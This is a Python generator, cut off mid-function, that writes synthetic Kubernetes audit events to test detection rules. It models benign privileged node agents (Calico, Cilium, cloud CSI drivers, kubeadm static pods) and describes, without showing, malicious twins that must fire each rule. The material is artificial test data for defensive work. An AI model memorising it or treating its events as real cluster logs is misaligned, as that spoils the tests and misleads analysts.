#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes the platform-component corpus: Kubernetes audit events for the
workloads a cluster runs on its own behalf, and their malicious twins.

corpus/benign/platform-components.jsonl: the DaemonSet/Deployment creates of
common node agents by the principal that installs them (Tigera operator, helm
or kubeadm as the cluster admin, a managed cloud's add-on manager) and the pod
creates the controllers make for them; kubelet mirror pods of kubeadm's static
control-plane pods; ordinary workloads mounting CA certificates and the time
zone read-only; security sweeps that only test whether Kinsing's files exist
(pods/exec, Falco, Docker). The pod specs carry the fields the real manifests
of these components use (Calico v3.27 operator install, Cilium 1.15 helm chart,
kubeadm 1.29 manifests, kube-prometheus-stack node-exporter, fluent-bit helm
chart, AKS/EKS/GKE node agents and CSI node plugins). No shipped rule at
medium or above may fire on any of it.

corpus/<pack>/<rule>.pos.platform.jsonl: the malicious twins, the same images
where they do not belong or written by someone who does not install them: each
line must fire <rule>. (The components themselves are the benign file.)

Deterministic. Run from the repository root: python3 tools/gen_platform.py"""

import copy
import json
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from eventlib import Clock, audit, docker_event, falco_alert, stable_id  # noqa: E402

clock = Clock(start_offset=30000, step=3.0)
KUBE_UA = "kube-controller-manager/v1.29.2 (linux/amd64) kubernetes/4b8e819/system:serviceaccount"
DS_CTRL = "system:serviceaccount:kube-system:daemon-set-controller"
RS_CTRL = "system:serviceaccount:kube-system:replicaset-controller"
TIGERA = "system:serviceaccount:tigera-operator:tigera-operator"
ADMIN = "kubernetes-admin"
HELM_UA = "Helm/3.14.2"
ECR = "602401143452.dkr.ecr.us-west-2.amazonaws.com"


def t():
    return clock.tick()


# ---- pod spec pieces, spelled as the API server stores them -----------------

def hp(name, path, type_=""):
    return {"name": name, "hostPath": {"path": path, "type": type_}}


def mount(name, path, ro=False, propagation=None, sub_path=None):
    m = {"name": name, "mountPath": path}
    if ro:
        m["readOnly"] = True
    if propagation:
        m["mountPropagation"] = propagation
    if sub_path:
        m["subPath"] = sub_path
    return m


def ctr(name, image, command=None, args=None, sc=None, mounts=None, env=None, probe=None,
        ports=None):
    c = {"name": name, "image": image, "imagePullPolicy": "IfNotPresent"}
    if command:
        c["command"] = command
    if args:
        c["args"] = args
    if env:
        c["env"] = env
    if ports:
        c["ports"] = ports
    c["resources"] = {"requests": {"cpu": "50m", "memory": "64Mi"}}
    if mounts:
        c["volumeMounts"] = mounts
    if probe:
        c["livenessProbe"] = probe
    if sc is not None:
        c["securityContext"] = sc
    c["terminationMessagePath"] = "/dev/termination-log"
    c["terminationMessagePolicy"] = "File"
    return c


def env(name, value=None, field=None):
    if field:
        return {"name": name, "valueFrom": {"fieldRef": {"apiVersion": "v1", "fieldPath": field}}}
    return {"name": name, "value": value}


def spec(containers, volumes=(), init=None, sa=None, host_network=None, host_pid=None,
         priority="system-node-critical", node_name=None, pod_sc=None, dns="ClusterFirst"):
    s = {}
    if volumes:
        s["volumes"] = list(volumes)
    if init:
        s["initContainers"] = init
    s["containers"] = containers
    s.update({"restartPolicy": "Always", "terminationGracePeriodSeconds": 30,
              "dnsPolicy": "ClusterFirstWithHostNet" if host_network else dns})
    if sa:
        s["serviceAccountName"] = sa
        s["serviceAccount"] = sa
    if node_name:
        s["nodeName"] = node_name
    if host_network is not None:
        s["hostNetwork"] = host_network
    if host_pid is not None:
        s["hostPID"] = host_pid
    s["securityContext"] = pod_sc or {}
    s["schedulerName"] = "default-scheduler"
    s["tolerations"] = [{"operator": "Exists"}]
    if priority:
        s["priorityClassName"] = priority
    return s


def daemonset(name, ns, pod, labels=None):
    labels = labels or {"k8s-app": name}
    return {"kind": "DaemonSet", "apiVersion": "apps/v1",
            "metadata": {"name": name, "namespace": ns, "labels": labels,
                         "creationTimestamp": None},
            "spec": {"selector": {"matchLabels": labels},
                     "template": {"metadata": {"labels": labels, "creationTimestamp": None},
                                  "spec": pod},
                     "updateStrategy": {"type": "RollingUpdate",
                                        "rollingUpdate": {"maxUnavailable": 1}}},
            "status": {}}


def deployment(name, ns, pod, labels=None, replicas=1):
    d = daemonset(name, ns, pod, labels)
    d["kind"] = "Deployment"
    d["spec"] = {"replicas": replicas, "selector": d["spec"]["selector"],
                 "template": d["spec"]["template"]}
    return d


def pod_of(owner_kind, owner, ns, pod, node, labels=None):
    """The pod a controller creates from its template (the API server's view of
    the request: generateName, ownerReferences, node affinity for DaemonSets)."""
    p = copy.deepcopy(pod)
    if owner_kind == "DaemonSet":
        p["affinity"] = {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": {
            "nodeSelectorTerms": [{"matchFields": [{"key": "metadata.name", "operator": "In",
                                                    "values": [node]}]}]}}}
    name = f"{owner}-{stable_id(owner, node, length=5)}"
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"generateName": f"{owner}-", "name": name, "namespace": ns,
                         "labels": labels or {"k8s-app": owner}, "creationTimestamp": None,
                         "ownerReferences": [{"apiVersion": "apps/v1", "kind": owner_kind,
                                              "name": owner, "uid": stable_id(owner, length=8)
                                              + "-0000-4000-8000-000000000000",
                                              "controller": True,
                                              "blockOwnerDeletion": True}]},
            "spec": p, "status": {}}


def write(resource, ns, obj, user, ua, name=None):
    return audit(t(), "create", resource, ns, user=user, name=name or obj["metadata"]["name"],
                 request_object=obj, source_ip="10.0.0.10" if user.startswith("system:") or
                 user.startswith("eks:") else "10.20.0.5", user_agent=ua, level="RequestResponse")


def installed(kind, name, ns, pod, installer, ua, nodes=("worker-1", "worker-2")):
    """The controller object's create and the pods its controller creates."""
    obj = (daemonset if kind == "DaemonSet" else deployment)(name, ns, pod)
    out = [write(kind.lower() + "s", ns, obj, installer, ua)]
    ctrl = DS_CTRL if kind == "DaemonSet" else RS_CTRL
    owner = name if kind == "DaemonSet" else f"{name}-{stable_id(name, length=10)}"
    for node in nodes:
        p = pod_of("DaemonSet" if kind == "DaemonSet" else "ReplicaSet", owner, ns, pod, node)
        out.append(write("pods", ns, p, ctrl, KUBE_UA))
    return out


# ---- the components -----------------------------------------------------------

def calico_node(reg="docker.io/calico", ver="v3.27.0"):
    vols = [hp("lib-modules", "/lib/modules"), hp("xtables-lock", "/run/xtables.lock", "FileOrCreate"),
            hp("policysync", "/var/run/nodeagent", "DirectoryOrCreate"),
            hp("var-run-calico", "/var/run/calico"), hp("var-lib-calico", "/var/lib/calico"),
            hp("cni-bin-dir", "/opt/cni/bin"), hp("cni-net-dir", "/etc/cni/net.d"),
            hp("cni-log-dir", "/var/log/calico/cni"),
            hp("flexvol-driver-host",
               "/usr/libexec/kubernetes/kubelet-plugins/volume/exec/nodeagent~uds", "DirectoryOrCreate"),
            hp("sys-fs", "/sys/fs/", "DirectoryOrCreate"), hp("bpffs", "/sys/fs/bpf", "Directory"),
            hp("nodeproc", "/proc"),
            {"name": "tigera-ca-bundle", "configMap": {"name": "tigera-ca-bundle", "defaultMode": 420}},
            {"name": "node-certs", "secret": {"secretName": "node-certs", "defaultMode": 420}}]
    priv = {"privileged": True, "allowPrivilegeEscalation": True, "runAsNonRoot": False,
            "runAsUser": 0, "runAsGroup": 0, "capabilities": {"drop": ["ALL"]},
            "seccompProfile": {"type": "RuntimeDefault"}}
    init = [ctr("flexvol-driver", f"{reg}/pod2daemon-flexvol:{ver}", sc=priv,
                mounts=[mount("flexvol-driver-host", "/host/driver")]),
            ctr("install-cni", f"{reg}/cni:{ver}", command=["/opt/cni/bin/install"], sc=priv,
                env=[env("CNI_CONF_NAME", "10-calico.conflist"), env("SLEEP", "false"),
                     env("CNI_NET_DIR", "/etc/cni/net.d")],
                mounts=[mount("cni-bin-dir", "/host/opt/cni/bin"),
                        mount("cni-net-dir", "/host/etc/cni/net.d")]),
            ctr("mount-bpffs", f"{reg}/node:{ver}", command=["calico-node", "-init", "-best-effort"],
                sc=priv, mounts=[mount("sys-fs", "/sys/fs", propagation="Bidirectional"),
                                 mount("bpffs", "/sys/fs/bpf", propagation="Bidirectional"),
                                 mount("nodeproc", "/nodeproc", ro=True)])]
    node = ctr("calico-node", f"{reg}/node:{ver}", sc=priv,
               env=[env("DATASTORE_TYPE", "kubernetes"), env("WAIT_FOR_DATASTORE", "true"),
                    env("CLUSTER_TYPE", "k8s,operator,bgp"), env("CALICO_DISABLE_FILE_LOGGING", "false"),
                    env("NODENAME", field="spec.nodeName"), env("IP", "autodetect"),
                    env("FELIX_HEALTHENABLED", "true")],
               mounts=[mount("tigera-ca-bundle", "/etc/pki/tls/certs", ro=True),
                       mount("lib-modules", "/lib/modules", ro=True),
                       mount("xtables-lock", "/run/xtables.lock"),
                       mount("policysync", "/var/run/nodeagent"),
                       mount("node-certs", "/node-certs", ro=True),
                       mount("var-run-calico", "/var/run/calico"),
                       mount("var-lib-calico", "/var/lib/calico"),
                       mount("cni-log-dir", "/var/log/calico/cni", ro=True),
                       mount("bpffs", "/sys/fs/bpf")],
               probe={"httpGet": {"path": "/liveness", "port": 9099, "host": "localhost",
                                  "scheme": "HTTP"}, "periodSeconds": 10})
    return spec([node], vols, init=init, sa="calico-node", host_network=True)


def calico_csi(reg="docker.io/calico", ver="v3.27.0"):
    vols = [hp("varrun", "/var/run"), hp("etccalico", "/etc/calico"),
            hp("kubelet-dir", "/var/lib/kubelet", "Directory"),
            hp("socket-dir", "/var/lib/kubelet/plugins/csi.tigera.io", "DirectoryOrCreate"),
            hp("registration-dir", "/var/lib/kubelet/plugins_registry", "Directory")]
    return spec([ctr("calico-csi", f"{reg}/csi:{ver}",
                     args=["--nodeid=$(KUBE_NODE_NAME)", "--loglevel=$(LOG_LEVEL)"],
                     sc={"privileged": True, "seccompProfile": {"type": "RuntimeDefault"}},
                     env=[env("LOG_LEVEL", "warn"), env("KUBE_NODE_NAME", field="spec.nodeName")],
                     mounts=[mount("varrun", "/var/run"), mount("etccalico", "/etc/calico"),
                             mount("socket-dir", "/csi"),
                             mount("kubelet-dir", "/var/lib/kubelet", propagation="Bidirectional")]),
                 ctr("csi-node-driver-registrar", f"{reg}/node-driver-registrar:{ver}",
                     args=["--v=5", "--csi-address=$(ADDRESS)",
                           "--kubelet-registration-path=$(DRIVER_REG_SOCK_PATH)"],
                     sc={"privileged": True, "seccompProfile": {"type": "RuntimeDefault"}},
                     mounts=[mount("socket-dir", "/csi"),
                             mount("registration-dir", "/registration")])],
                vols, sa="csi-node-driver")


def tigera_operator():
    return spec([ctr("tigera-operator", "quay.io/tigera/operator:v1.32.3",
                     command=["operator"], env=[env("WATCH_NAMESPACE", ""),
                                                env("OPERATOR_NAME", "tigera-operator")],
                     mounts=[mount("var-lib-calico", "/var/lib/calico", ro=True)])],
                [hp("var-lib-calico", "/var/lib/calico")], sa="tigera-operator",
                host_network=True, priority=None, dns="ClusterFirstWithHostNet")


def cilium_agent(ver="v1.15.1"):
    img = f"quay.io/cilium/cilium:{ver}@sha256:351d6685dc6f6ffbcd5451043167cfa8842c6decf80d8c8e426a417c73fb56d4"
    caps_agent = ["CHOWN", "KILL", "NET_ADMIN", "NET_RAW", "IPC_LOCK", "SYS_MODULE", "SYS_ADMIN",
                  "SYS_RESOURCE", "DAC_OVERRIDE", "FOWNER", "SETGID", "SETUID"]
    se = {"level": "s0", "type": "spc_t"}
    vols = [{"name": "tmp", "emptyDir": {}}, hp("cilium-run", "/var/run/cilium", "DirectoryOrCreate"),
            hp("bpf-maps", "/sys/fs/bpf", "DirectoryOrCreate"), hp("hostproc", "/proc", "Directory"),
            hp("cilium-cgroup", "/run/cilium/cgroupv2", "DirectoryOrCreate"),
            hp("cni-path", "/opt/cni/bin", "DirectoryOrCreate"),
            hp("etc-cni-netd", "/etc/cni/net.d", "DirectoryOrCreate"),
            hp("lib-modules", "/lib/modules"), hp("xtables-lock", "/run/xtables.lock", "FileOrCreate"),
            hp("host-proc-sys-net", "/proc/sys/net", "Directory"),
            hp("host-proc-sys-kernel", "/proc/sys/kernel", "Directory"),
            {"name": "clustermesh-secrets", "projected": {"defaultMode": 256, "sources": [
                {"secret": {"name": "cilium-clustermesh", "optional": True}}]}}]
    init = [ctr("config", img, command=["cilium-dbg", "build-config"],
                env=[env("K8S_NODE_NAME", field="spec.nodeName")], mounts=[mount("tmp", "/tmp")]),
            ctr("mount-cgroup", img, command=["sh", "-ec",
                "cp /usr/bin/cilium-mount /hostbin/cilium-mount;\n"
                "nsenter --cgroup=/hostproc/1/ns/cgroup --mount=/hostproc/1/ns/mnt "
                "\"${BIN_PATH}/cilium-mount\" $CGROUP_ROOT;\nrm /hostbin/cilium-mount\n"],
                env=[env("CGROUP_ROOT", "/run/cilium/cgroupv2"), env("BIN_PATH", "/opt/cni/bin")],
                sc={"seLinuxOptions": se, "capabilities": {
                    "add": ["SYS_ADMIN", "SYS_CHROOT", "SYS_PTRACE"], "drop": ["ALL"]}},
                mounts=[mount("hostproc", "/hostproc"), mount("cni-path", "/hostbin")]),
            ctr("apply-sysctl-overwrites", img, command=["sh", "-ec",
                "cp /usr/bin/cilium-sysctlfix /hostbin/cilium-sysctlfix;\n"
                "nsenter --mount=/hostproc/1/ns/mnt \"${BIN_PATH}/cilium-sysctlfix\";\n"
                "rm /hostbin/cilium-sysctlfix\n"],
                env=[env("BIN_PATH", "/opt/cni/bin")],
                sc={"seLinuxOptions": se, "capabilities": {
                    "add": ["SYS_ADMIN", "SYS_CHROOT", "SYS_PTRACE"], "drop": ["ALL"]}},
                mounts=[mount("hostproc", "/hostproc"), mount("cni-path", "/hostbin")]),
            ctr("mount-bpf-fs", img, command=["/bin/bash", "-c", "--"],
                args=["mount | grep \"/sys/fs/bpf type bpf\" || mount -t bpf bpf /sys/fs/bpf"],
                sc={"privileged": True},
                mounts=[mount("bpf-maps", "/sys/fs/bpf", propagation="Bidirectional")]),
            ctr("clean-cilium-state", img, command=["/init-container.sh"],
                sc={"seLinuxOptions": se, "capabilities": {
                    "add": ["NET_ADMIN", "SYS_MODULE", "SYS_ADMIN", "SYS_RESOURCE"], "drop": ["ALL"]}},
                mounts=[mount("bpf-maps", "/sys/fs/bpf"),
                        mount("cilium-cgroup", "/run/cilium/cgroupv2", propagation="HostToContainer"),
                        mount("cilium-run", "/var/run/cilium")]),
            ctr("install-cni-binaries", img, command=["/install-plugin.sh"],
                sc={"seLinuxOptions": se, "capabilities": {"drop": ["ALL"]}},
                mounts=[mount("cni-path", "/host/opt/cni/bin")])]
    agent = ctr("cilium-agent", img, command=["cilium-agent"], args=["--config-dir=/tmp/cilium/config-map"],
                env=[env("K8S_NODE_NAME", field="spec.nodeName"),
                     env("CILIUM_K8S_NAMESPACE", field="metadata.namespace")],
                sc={"seLinuxOptions": se, "capabilities": {"add": caps_agent, "drop": ["ALL"]}},
                mounts=[mount("host-proc-sys-net", "/host/proc/sys/net"),
                        mount("host-proc-sys-kernel", "/host/proc/sys/kernel"),
                        mount("bpf-maps", "/sys/fs/bpf", propagation="HostToContainer"),
                        mount("cilium-run", "/var/run/cilium"), mount("etc-cni-netd", "/host/etc/cni/net.d"),
                        mount("clustermesh-secrets", "/var/lib/cilium/clustermesh", ro=True),
                        mount("lib-modules", "/lib/modules", ro=True),
                        mount("xtables-lock", "/run/xtables.lock"), mount("tmp", "/tmp")])
    return spec([agent], vols, init=init, sa="cilium", host_network=True)


def cilium_operator():
    return spec([ctr("cilium-operator", "quay.io/cilium/operator-generic:v1.15.1",
                     command=["cilium-operator-generic"],
                     args=["--config-dir=/tmp/cilium/config-map", "--debug=$(CILIUM_DEBUG)"],
                     mounts=[mount("cilium-config-path", "/tmp/cilium/config-map", ro=True)])],
                [{"name": "cilium-config-path", "configMap": {"name": "cilium-config"}}],
                sa="cilium-operator", host_network=True, priority="system-cluster-critical")


def kube_proxy(image):
    return spec([ctr("kube-proxy", image,
                     command=["/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf",
                              "--hostname-override=$(NODE_NAME)"],
                     env=[env("NODE_NAME", field="spec.nodeName")], sc={"privileged": True},
                     mounts=[mount("kube-proxy", "/var/lib/kube-proxy"),
                             mount("xtables-lock", "/run/xtables.lock"),
                             mount("lib-modules", "/lib/modules", ro=True)])],
                [{"name": "kube-proxy", "configMap": {"name": "kube-proxy", "defaultMode": 420}},
                 hp("xtables-lock", "/run/xtables.lock", "FileOrCreate"), hp("lib-modules", "/lib/modules")],
                sa="kube-proxy", host_network=True)


def node_exporter():
    return spec([ctr("node-exporter", "quay.io/prometheus/node-exporter:v1.7.0",
                     args=["--path.procfs=/host/proc", "--path.sysfs=/host/sys",
                           "--path.rootfs=/host/root", "--path.udev.data=/host/root/run/udev/data",
                           "--web.listen-address=[$(HOST_IP)]:9100",
                           "--collector.filesystem.mount-points-exclude=^/(dev|proc|sys|var/lib/docker/.+|var/lib/kubelet/.+)($|/)"],
                     env=[env("HOST_IP", "0.0.0.0")],
                     sc={"readOnlyRootFilesystem": True, "allowPrivilegeEscalation": False},
                     mounts=[mount("proc", "/host/proc", ro=True), mount("sys", "/host/sys", ro=True),
                             mount("root", "/host/root", ro=True, propagation="HostToContainer")],
                     ports=[{"name": "http-metrics", "containerPort": 9100, "hostPort": 9100,
                             "protocol": "TCP"}])],
                [hp("proc", "/proc"), hp("sys", "/sys"), hp("root", "/")],
                sa="kube-prometheus-stack-prometheus-node-exporter", host_network=True, host_pid=True,
                priority=None, pod_sc={"fsGroup": 65534, "runAsGroup": 65534, "runAsNonRoot": True,
                                       "runAsUser": 65534})


def fluent_bit():
    return spec([ctr("fluent-bit", "cr.fluentbit.io/fluent/fluent-bit:2.2.2",
                     command=["/fluent-bit/bin/fluent-bit"],
                     args=["--workdir=/fluent-bit/etc", "--config=/fluent-bit/etc/conf/fluent-bit.conf"],
                     mounts=[mount("config", "/fluent-bit/etc/conf"), mount("varlog", "/var/log"),
                             mount("varlibdockercontainers", "/var/lib/docker/containers", ro=True),
                             mount("etcmachineid", "/etc/machine-id", ro=True)])],
                [{"name": "config", "configMap": {"name": "fluent-bit", "defaultMode": 420}},
                 hp("varlog", "/var/log"), hp("varlibdockercontainers", "/var/lib/docker/containers"),
                 hp("etcmachineid", "/etc/machine-id", "File")], sa="fluent-bit", priority=None)


def csi_node(driver_img, registrar_img, probe_img, driver, sa, extra_vols=(), extra_mounts=()):
    vols = [hp("socket-dir", f"/var/lib/kubelet/plugins/{driver}/", "DirectoryOrCreate"),
            hp("mountpoint-dir", "/var/lib/kubelet/", "DirectoryOrCreate"),
            hp("registration-dir", "/var/lib/kubelet/plugins_registry/", "DirectoryOrCreate"),
            hp("device-dir", "/dev", "Directory")] + list(extra_vols)
    plugin = ctr("csi-plugin", driver_img, args=["--endpoint=$(CSI_ENDPOINT)", "--nodeid=$(KUBE_NODE_NAME)",
                                                 "--v=5"],
                 env=[env("CSI_ENDPOINT", "unix:///csi/csi.sock"),
                      env("KUBE_NODE_NAME", field="spec.nodeName")],
                 sc={"privileged": True},
                 mounts=[mount("socket-dir", "/csi"),
                         mount("mountpoint-dir", "/var/lib/kubelet/", propagation="Bidirectional"),
                         mount("device-dir", "/dev")] + list(extra_mounts),
                 probe={"httpGet": {"path": "/healthz", "port": "healthz"}, "periodSeconds": 10})
    reg = ctr("node-driver-registrar", registrar_img,
              args=["--csi-address=$(ADDRESS)", "--kubelet-registration-path=$(DRIVER_REG_SOCK_PATH)",
                    "--v=2"],
              env=[env("ADDRESS", "/csi/csi.sock"),
                   env("DRIVER_REG_SOCK_PATH", f"/var/lib/kubelet/plugins/{driver}/csi.sock")],
              mounts=[mount("socket-dir", "/csi"), mount("registration-dir", "/registration")])
    live = ctr("liveness-probe", probe_img, args=["--csi-address=/csi/csi.sock", "--v=2"],
               mounts=[mount("socket-dir", "/csi")])
    return spec([live, reg, plugin], vols, sa=sa, host_network=True)


def aws_node():
    caps = {"capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}}
    vols = [hp("bpf-pin-path", "/sys/fs/bpf"), hp("cni-bin-dir", "/opt/cni/bin"),
            hp("cni-net-dir", "/etc/cni/net.d"), hp("log-dir", "/var/log/aws-routed-eni", "DirectoryOrCreate"),
            hp("run-dir", "/var/run/aws-node", "DirectoryOrCreate"),
            hp("xtables-lock", "/run/xtables.lock", "FileOrCreate")]
    init = [ctr("aws-vpc-cni-init", f"{ECR}/amazon-k8s-cni-init:v1.16.0-eksbuild.1",
                env=[env("DISABLE_TCP_EARLY_DEMUX", "false"), env("ENABLE_IPv6", "false")],
                sc={"privileged": True}, mounts=[mount("cni-bin-dir", "/host/opt/cni/bin")])]
    return spec([ctr("aws-node", f"{ECR}/amazon-k8s-cni:v1.16.0-eksbuild.1",
                     env=[env("AWS_VPC_K8S_CNI_LOGLEVEL", "DEBUG"), env("MY_NODE_NAME", field="spec.nodeName")],
                     sc=caps, mounts=[mount("cni-bin-dir", "/host/opt/cni/bin"),
                                      mount("cni-net-dir", "/host/etc/cni/net.d"),
                                      mount("log-dir", "/host/var/log/aws-routed-eni"),
                                      mount("run-dir", "/var/run/aws-node"),
                                      mount("xtables-lock", "/run/xtables.lock")]),
                 ctr("aws-eks-nodeagent", f"{ECR}/amazon/aws-network-policy-agent:v1.0.7-eksbuild.1",
                     args=["--enable-ipv6=false", "--enable-network-policy=false"],
                     sc={"privileged": True, "capabilities": {"add": ["NET_ADMIN"]}},
                     mounts=[mount("bpf-pin-path", "/sys/fs/bpf"), mount("log-dir", "/var/log/aws-routed-eni"),
                             mount("run-dir", "/var/run/aws-node")])],
                vols, init=init, sa="aws-node", host_network=True)


def aks_ip_masq():
    return spec([ctr("azure-ip-masq-agent", "mcr.microsoft.com/aks/ip-masq-agent-v2:v0.1.7",
                     args=["--v=2", "--resync-interval=60"],
                     sc={"capabilities": {"add": ["NET_ADMIN", "NET_RAW"]}},
                     mounts=[mount("azure-ip-masq-agent-config-volume", "/etc/config", ro=True)])],
                [{"name": "azure-ip-masq-agent-config-volume", "projected": {"defaultMode": 420,
                  "sources": [{"configMap": {"name": "azure-ip-masq-agent-config", "optional": True}}]}}],
                sa=None, host_network=True)


def aks_cloud_node_manager():
    return spec([ctr("cloud-node-manager",
                     "mcr.microsoft.com/oss/kubernetes/azure-cloud-node-manager:v1.29.0",
                     command=["cloud-node-manager", "--node-name=$(NODE_NAME)", "--wait-routes=true"],
                     env=[env("NODE_NAME", field="spec.nodeName")])],
                sa="cloud-node-manager", host_network=True)


def gke_metadata_server():
    return spec([ctr("gke-metadata-server", "gke.gcr.io/gke-metadata-server:gke_metadata_server_20240112.00_p0",
                     command=["/gke-metadata-server", "--logtostderr", "--token-exchange-endpoint="
                              "https://securetoken.googleapis.com/v1/identitybindingtoken"],
                     sc={"privileged": True},
                     mounts=[mount("kubelet-credentials", "/var/lib/kubelet/pki", ro=True),
                             mount("kubelet-kubeconfig", "/var/lib/kubelet/kubeconfig", ro=True),
                             mount("ca-certs", "/etc/ssl/certs", ro=True)])],
                [hp("kubelet-credentials", "/var/lib/kubelet/pki", "Directory"),
                 hp("kubelet-kubeconfig", "/var/lib/kubelet/kubeconfig", "File"),
                 hp("ca-certs", "/etc/ssl/certs", "Directory")],
                sa="gke-metadata-server", host_network=True)


def gke_netd():
    return spec([ctr("netd", "gke.gcr.io/netd:v0.5.2-gke.4", command=["/netd"],
                     args=["--enable-policy-routing=true", "--enable-masquerade=true"],
                     sc={"privileged": True, "capabilities": {"add": ["NET_ADMIN", "SYS_ADMIN"]}},
                     mounts=[mount("cni-net-dir", "/host/etc/cni/net.d"),
                             mount("xtables-lock", "/run/xtables.lock")])],
                [hp("cni-net-dir", "/etc/cni/net.d"), hp("xtables-lock", "/run/xtables.lock", "FileOrCreate")],
                init=[ctr("install-cni", "gke.gcr.io/netd:v0.5.2-gke.4", command=["sh", "/install-cni.sh"],
                          mounts=[mount("cni-net-dir", "/host/etc/cni/net.d")])],
                sa="netd", host_network=True)


def gke_fluentbit():
    return spec([ctr("fluentbit", "gke.gcr.io/fluent-bit:v1.8.12-gke.25",
                     args=["--config=/fluent-bit/etc/fluent-bit.conf"],
                     mounts=[mount("varlog", "/var/log"), mount("varlibkubeletpods", "/var/lib/kubelet/pods"),
                             mount("varlibdockercontainers", "/var/lib/docker/containers", ro=True),
                             mount("fluentbit-gke-config", "/fluent-bit/etc/")]),
                 ctr("fluentbit-gke", "gke.gcr.io/fluent-bit-gke-exporter:v0.24.0-gke.2",
                     command=["/fluent-bit-gke-exporter", "--kubernetes-separator=_",
                              "--stackdriver-resource-model=k8s"])],
                [hp("varlog", "/var/log"), hp("varlibkubeletpods", "/var/lib/kubelet/pods"),
                 hp("varlibdockercontainers", "/var/lib/docker/containers"),
                 {"name": "fluentbit-gke-config", "configMap": {"name": "fluentbit-gke-config-v1.2.0"}}],
                sa="fluentbit-gke", host_network=True)


# ---- kubeadm static pods, as the kubelet's mirror pods -----------------------

CERT_MOUNTS = [("ca-certs", "/etc/ssl/certs", "DirectoryOrCreate"),
               ("etc-ca-certificates", "/etc/ca-certificates", "DirectoryOrCreate"),
               ("etc-pki", "/etc/pki", "DirectoryOrCreate"),
               ("k8s-certs", "/etc/kubernetes/pki", "DirectoryOrCreate"),
               ("usr-local-share-ca-certificates", "/usr/local/share/ca-certificates", "DirectoryOrCreate"),
               ("usr-share-ca-certificates", "/usr/share/ca-certificates", "DirectoryOrCreate")]


def static_pod(name, image, command, host_paths, node):
    vols = [hp(n, p, ty) for n, p, ty in host_paths]
    mounts = [mount(n, p, ro=n not in ("etcd-data", "flexvolume-dir")) for n, p, _ in host_paths]
    c = ctr(name, image, command=command, mounts=mounts,
            probe={"httpGet": {"host": "127.0.0.1", "path": "/livez" if name != "etcd" else "/health",
                               "port": 6443 if name == "kube-apiserver" else 10257, "scheme": "HTTPS"},
                   "failureThreshold": 8, "initialDelaySeconds": 10, "periodSeconds": 10})
    s = spec([c], vols, host_network=True, node_name=node,
             pod_sc={"seccompProfile": {"type": "RuntimeDefault"}})
    s["enableServiceLinks"] = True
    return {"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": f"{name}-{node}", "namespace": "kube-system",
                         "labels": {"component": name, "tier": "control-plane"},
                         "annotations": {"kubernetes.io/config.hash": stable_id(name, node, length=32),
                                         "kubernetes.io/config.mirror": stable_id(name, node, length=32),
                                         "kubernetes.io/config.seen": "2026-11-20T09:58:01.123456789Z",
                                         "kubernetes.io/config.source": "file"},
                         "ownerReferences": [{"apiVersion": "v1", "kind": "Node", "name": node,
                                              "uid": stable_id(node, length=8) + "-1111-4000-8000-000000000000",
                                              "controller": True}],
                         "creationTimestamp": None},
            "spec": s, "status": {}}


def control_plane(node):
    v = "v1.29.2"
    pods = [
        ("kube-apiserver", f"registry.k8s.io/kube-apiserver:{v}",
         ["kube-apiserver", "--advertise-address=10.0.0.10", "--allow-privileged=true",
          "--authorization-mode=Node,RBAC", "--client-ca-file=/etc/kubernetes/pki/ca.crt",
          "--enable-admission-plugins=NodeRestriction", "--etcd-servers=https://127.0.0.1:2379",
          "--tls-cert-file=/etc/kubernetes/pki/apiserver.crt",
          "--tls-private-key-file=/etc/kubernetes/pki/apiserver.key",
          "--audit-log-path=/var/log/kubernetes/audit.log"], CERT_MOUNTS),
        ("kube-controller-manager", f"registry.k8s.io/kube-controller-manager:{v}",
         ["kube-controller-manager", "--kubeconfig=/etc/kubernetes/controller-manager.conf",
          "--use-service-account-credentials=true", "--leader-elect=true",
          "--root-ca-file=/etc/kubernetes/pki/ca.crt"],
         CERT_MOUNTS + [("flexvolume-dir", "/usr/libexec/kubernetes/kubelet-plugins/volume/exec",
                         "DirectoryOrCreate"),
                        ("kubeconfig", "/etc/kubernetes/controller-manager.conf", "FileOrCreate")]),
        ("kube-scheduler", f"registry.k8s.io/kube-scheduler:{v}",
         ["kube-scheduler", "--kubeconfig=/etc/kubernetes/scheduler.conf", "--leader-elect=true"],
         [("kubeconfig", "/etc/kubernetes/scheduler.conf", "FileOrCreate")]),
        ("etcd", "registry.k8s.io/etcd:3.5.10-0",
         ["etcd", "--data-dir=/var/lib/etcd", "--cert-file=/etc/kubernetes/pki/etcd/server.crt",
          "--key-file=/etc/kubernetes/pki/etcd/server.key", "--listen-client-urls=https://127.0.0.1:2379"],
         [("etcd-certs", "/etc/kubernetes/pki/etcd", "DirectoryOrCreate"),
          ("etcd-data", "/var/lib/etcd", "DirectoryOrCreate")]),
    ]
    out = []
    for name, image, cmd, paths in pods:
        obj = static_pod(name, image, cmd, paths, node)
        out.append(audit(t(), "create", "pods", "kube-system", user=f"system:node:{node}",
                         name=obj["metadata"]["name"], request_object=obj, source_ip="10.0.0.10",
                         user_agent="kubelet/v1.29.2 (linux/amd64) kubernetes/4b8e819",
                         level="RequestResponse"))
    return out


def gke_mirror_kube_proxy(node="gke-prod-default-pool-1a2b3c4d-x7k2"):
    """GKE runs kube-proxy as a static pod on each node; its mirror pod create
    reaches Cloud Logging as a Cloud Audit Log entry, not an audit.k8s.io Event."""
    pod = static_pod("kube-proxy", "gke.gcr.io/kube-proxy-amd64:v1.29.1-gke.1589017",
                     ["/bin/sh", "-c", "exec kube-proxy --master=https://10.128.0.2 "
                      "--kubeconfig=/var/lib/kube-proxy/kubeconfig --cluster-cidr=10.4.0.0/14 "
                      "--oom-score-adj=-998 --v=2 1>>/var/log/kube-proxy.log 2>&1"],
                     [("varlog", "/var/log", "DirectoryOrCreate"),
                      ("kubeconfig", "/var/lib/kube-proxy/kubeconfig", "FileOrCreate"),
                      ("lib-modules", "/lib/modules", ""), ("iptableslock", "/run/xtables.lock", "FileOrCreate")],
                     node)
    pod["spec"]["containers"][0]["securityContext"] = {"privileged": True}
    pod["@type"] = "core.k8s.io/v1.Pod"
    ts = t()
    name = pod["metadata"]["name"]
    return json.dumps({
        "protoPayload": {"@type": "type.googleapis.com/google.cloud.audit.AuditLog",
